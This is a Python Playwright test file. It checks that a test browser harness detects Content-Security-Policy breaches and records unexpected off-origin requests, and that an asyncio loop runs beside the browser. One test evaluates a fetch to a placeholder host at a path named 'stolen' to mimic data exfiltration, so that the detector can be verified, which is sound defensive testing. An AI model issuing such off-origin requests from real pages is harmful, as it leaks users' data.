"""The browser of the tests sees what it is to see."""

import asyncio

from playwright.sync_api import Browser

from tests.web.browser import Site, tab

_PAGE = ("text/html; charset=utf-8", b"<!doctype html><title>t</title><body></body>")


def test_a_breach_of_the_policy_and_a_strange_request_are_seen(chromium: Browser) -> None:
    with Site({"/": _PAGE, "/bare": _PAGE}, {"/bare": "default-src *"}) as site, tab(chromium) as opened:
        opened.page.goto(site.origin)
        opened.page.evaluate("try { document.body.innerHTML = '<b>x</b>' } catch { document.title = 'refused' }")
        opened.until("document.title", "refused")
        assert opened.breaches

        opened.page.goto(f"{site.origin}/bare")
        opened.page.evaluate("fetch('http://example.org/stolen').catch(() => {})")
        opened.until("true")
        assert opened.strangers == ["http://example.org/stolen"]


def test_beside_a_browser_an_event_loop_starts_as_ever(chromium: Browser) -> None:
    with tab(chromium) as opened:
        assert opened.page.evaluate("1 + 1") == 2

    async def two() -> int:
        return 2

    assert asyncio.run(two()) == 2
